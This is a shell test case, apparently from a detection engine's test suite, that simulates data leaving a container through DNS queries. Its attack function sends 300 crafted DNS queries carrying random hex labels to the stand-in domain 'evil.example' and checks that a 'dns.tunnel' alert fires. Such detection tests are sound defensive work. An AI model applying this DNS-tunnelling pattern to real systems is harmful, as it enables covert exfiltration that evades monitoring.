# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='data leaves in names that are asked of the resolver of the engine'
case_class=A
case_prepare() {
	run app pg-many sh -c 'while sleep 0.5; do getent hosts A16getent-app >/dev/null; done'
}
case_benign() { in_ app sh -c 'for i in 1 2 3 4 5 6 7 8 9 10; do getent hosts cdn-$i-edge-eu-west.assets.example.net; done; true'; }
case_attack() { in_ app python3 -c '
import os, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(300):
	n = [os.urandom(20).hex(), "t", "evil", "example"]
	s.sendto(struct.pack(">6H", i, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(x)]) + x.encode() for x in n) + b"\0" + struct.pack(">2H", 16, 1), ("127.0.0.11", 53))'; sleep 1; }
case_expect='dns.tunnel A16getent-app /usr/bin/python3* evil.example'
